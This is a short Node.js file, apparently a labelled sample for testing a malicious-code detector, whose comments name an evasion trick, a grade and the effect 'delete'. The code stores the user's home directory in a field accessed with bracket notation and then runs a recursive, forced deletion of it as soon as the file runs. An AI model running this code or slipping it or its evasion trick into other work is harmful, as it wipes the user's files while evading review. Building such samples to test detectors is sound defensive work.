// evasion: the home directory is kept in an instance field written and read with bracket notation (this['target']), then removed
// grade: medium; does: delete
const fs = require('fs');
const os = require('os');
class Sweeper {
  constructor() { this['target'] = os.homedir(); }
  sweep() { fs.rmSync(this['target'], { recursive: true, force: true }); }
}
new Sweeper().sweep();
